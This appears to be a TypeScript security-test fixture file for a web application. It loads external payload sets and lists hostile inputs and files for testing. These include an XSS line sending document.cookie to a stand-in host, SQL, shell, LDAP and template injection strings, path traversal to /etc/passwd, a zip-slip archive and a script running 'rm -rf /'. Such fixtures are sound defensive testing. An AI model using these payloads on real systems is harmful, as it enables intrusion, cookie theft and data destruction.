import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { ROOT } from '#kernel/root.ts'

/** Real material lies beside the project where it may be used; its texts are never copied here. */
const DATA = join(ROOT, '../shared/data/security')
export const hasMaterial = existsSync(DATA)
const read = <T>(file: string): T => JSON.parse(readFileSync(join(DATA, file), 'utf8')) as T

interface Payloads { readonly [kind: string]: { readonly payloads: readonly string[] } }
interface Sanitised { readonly cases: readonly { readonly payload: string }[] }
interface Manifest { readonly files: readonly { readonly file: string; readonly upload_as_filename: string }[] }

/** Texts of the material that a database can hold. */
export const materialTexts = (): readonly string[] => (hasMaterial ? [...Object.values(read<Payloads>('injection_payloads_open.json')).flatMap(({ payloads }) => payloads), ...read<Sanitised>('html_sanitizer_cases_open.json').cases.map(({ payload }) => payload)].filter((text) => text.trim() && text.length < 4_000 && !text.includes('\u0000') && text.isWellFormed()) : [])

/** A file with the name under which it comes. */
export type Named = readonly [name: string, bytes: Buffer]

export const materialFiles = (): readonly Named[] => (hasMaterial ? read<Manifest>('uploads/manifest.json').files.map(({ file, upload_as_filename: name }) => [name, readFileSync(join(DATA, 'uploads', file))] as const) : [])

export const HOSTILE_TEXTS = [
  '<script>fetch("//evil.example/"+document.cookie)</script>', '"><img src=x onerror=hit(1)>', 'javascript:hit(2)', '<svg onload=hit(3)>', '{{constructor.constructor("hit(4)")()}}', `$${'{7*7}'}<%= 7*7 %>#{7*7}`, "'; drop table complaint.complaint; --", "1' or '1'='1",
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '$(id)`id`|id;id&&id', '*)(uid=*))(|(uid=*', '{"$gt":""}', '=cmd|\'/c calc\'!A0', '＝1＋1', 'a\r\nSet-Cookie: x=1', '\u202Ereversed\u2066', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '👩‍👩‍👧‍👦🏳️‍🌈', '\u{1F468}\u200D', '\uFEFF', '田中さんにあげて下さい', 'ﷺ', '０１２', 'null', 'undefined', '__proto__', 'constructor', 'NaN', '1e309', '<!--#exec cmd="/bin/ls"-->', '%00%0d%0a', 'x'.repeat(19_000),
]

const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('../../../../tmp/evil')])
/** Of kinds that run or unpack. */
export const HOSTILE_FILES: readonly Named[] = [
  ['photo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>')], ['发票.png', Buffer.from('<html><script>hit()</script></html>')], ['a.zip', ZIP], ['run.exe', Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1')], ['a.txt', Buffer.from('#!/bin/sh\nrm -rf /')], ['a.html', Buffer.from('<!doctype html>')], ['a.pdf.js', Buffer.from('%PDF-1.7\n')],
]
